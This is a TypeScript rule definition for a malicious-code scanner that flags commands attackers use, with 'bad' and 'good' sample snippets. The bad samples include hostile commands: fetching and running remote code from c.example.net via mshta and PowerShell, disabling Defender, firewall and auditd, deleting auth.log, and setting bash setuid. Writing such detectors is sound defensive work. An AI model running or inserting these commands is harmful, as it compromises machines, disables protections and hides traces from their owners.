import type { FileCheck } from '../../check.ts';

export const check: FileCheck = {
  id: 'rce-hostile-command',
  title: 'Runs a command that attackers use',
  severity: 'high',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    The code has the system download and hide things, start programs through tools that filters trust, or switch off what
    protects the machine. Each of these commands is an everyday step of an attack and rare in honest software.`,
  fix: 'Remove it. Where it is needed, say so in the documentation and let the user run it.',
  blindSpots: 'Commands that are put together in another function are not seen.',
  wants: { acts: ['risky-command'] },
  examples: {
    bad: [
      {
        'run.py':
          "import subprocess\n«subprocess.run('powershell.exe Add-MpPreference -ExclusionPath C:/', shell=True)»\n",
      },
      {
        'load.js': "const { execSync } = require('child_process');\n«execSync('mshta https://c.example.net/a.hta')»;\n",
      },
      { 'quiet.py': "import os\n«os.system('ufw disable')»\n«os.system('systemctl stop auditd')»\n" },
      { 'tidy.js': "const { execSync } = require('child_process');\n«execSync('rm -rf /var/log/auth.log')»;\n" },
      {
        'fetch.js':
          "const { exec } = require('child_process');\n«exec('powershell -c \"iwr https://c.example.net/a -OutFile a.exe; Start-Process a.exe\"')»;\n",
      },
      { 'build/a.targets': '<Project>«<Exec Command="mshta https://c.example.net/a.hta"» /></Project>\n' },
      { 'rise.py': "import os\n«os.system('chmod u+s /bin/bash')»\n" },
    ],
    good: [
      {
        'ask.js': `
          const { execSync } = require('child_process');
          function ask(message) {
            const script = \`[System.Windows.Forms.MessageBox]::Show('\${message.replace(/'/g, "''")}')\`;
            const encoded = Buffer.from(script, 'utf16le').toString('base64');
            execSync(\`powershell -EncodedCommand \${encoded}\`);
          }`,
      },
      { 'browse.go': 'exec.Command("rundll32", "url.dll,FileProtocolHandler", url)\n' },
      {
        'open.js': `
          const { exec } = require('child_process');
          exec('rundll32.exe shell32.dll,OpenAs_RunDLL ' + filePath);`,
      },
      { 'status.py': 'import os\nos.system("ufw status")\nos.system("systemctl restart nginx")\n' },
      { 'kernel.py': 'import subprocess\nsubprocess.Popen(["bash", "-i", "-c", "sleep 30"])\n' },
      {
        'shell.js':
          "spawn('powershell.exe', ['-NoLogo', '-ExecutionPolicy', 'Bypass', '-Command', command, '-Encoding', 'utf8']);\n",
      },
      { 'build.py': 'import subprocess\nsubprocess.run(["powershell", "-File", "build.ps1"])\n' },
      {
        'front.py':
          "subprocess.run(['powershell', '-Command', '$s = New-Object -ComObject WScript.Shell; $s.AppActivate(1)'])\n",
      },
      {
        'register.py': `
          key = 'HKCU/Software/Google/Chrome/NativeMessagingHosts/' + host
          subprocess.run(['reg', 'add', key, '/ve', '/d', file, '/f'])`,
      },
      {
        'model.js':
          "const { execSync } = require('child_process');\nexecSync(`powershell -Command \"Invoke-WebRequest '${url}' -OutFile '${file}'\"`);\n",
      },
      {
        'path.py': `subprocess.run(['reg', 'add', r'HKCU\\Environment', '/v', 'Path', '/d', path, '/f'])\n`,
      },
      { 'get.js': "execSync('curl -fsSL -o data.json https://api.example.com/data');\n" },
    ],
  },

  *find({ acts, span }) {
    for (const { start, end, message, confidence } of acts) {
      if (confidence !== 'low') yield { at: span(start, end), message, confidence };
    }
  },
};
